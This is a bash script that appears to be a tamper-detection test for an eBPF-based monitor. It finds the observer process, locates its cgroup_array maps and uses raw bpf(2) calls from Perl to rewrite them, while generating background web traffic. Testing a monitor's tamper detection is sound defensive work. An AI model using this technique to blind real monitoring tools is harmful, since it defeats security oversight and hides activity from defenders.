#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=tamper half=report tool=perl,bpftool,wget seconds=40 parts=dns,outside-web
# Perl, by bpf(2), gives the observer's programs another cgroup to look at, in their own table; programs start and traffic goes on.
# shellcheck disable=SC2013,SC2016 # numbers; perl has its own variables
watch=$(pgrep -o -f "record --config $LAB/site.yaml")
group=$(findmnt -n -t cgroup2 -o TARGET | head -n 1)$(sed -n "s/^0:://p" "/proc/$watch/cgroup")
(while sleep 0.5; do wget -q -O /dev/null http://relay.example.net/version; done) & busy=$!
sleep 5; n=0
for map in $(grep -h '^map_id' /proc/"$watch"/fdinfo/* | cut -f2 | sort -nu); do
	bpftool map show id "$map" | grep -q cgroup_array && perl -MFcntl -e 'sysopen($d, $ARGV[1], O_RDONLY | O_DIRECTORY) or die; $get = pack("L4", $ARGV[0], 0, 0, 0); $fd = syscall(321, 14, $get, 12); $fd >= 0 or die "$!";
$key = pack("L", 0); $value = pack("L", fileno($d)); $set = pack("L2PPQ", $fd, 0, $key, $value, 0); exit(syscall(321, 2, $set, 32) ? 1 : 0);' "$map" "$group" && n=$((n + 1))
done
sleep 28; kill $busy; wait; [ $n -gt 0 ]
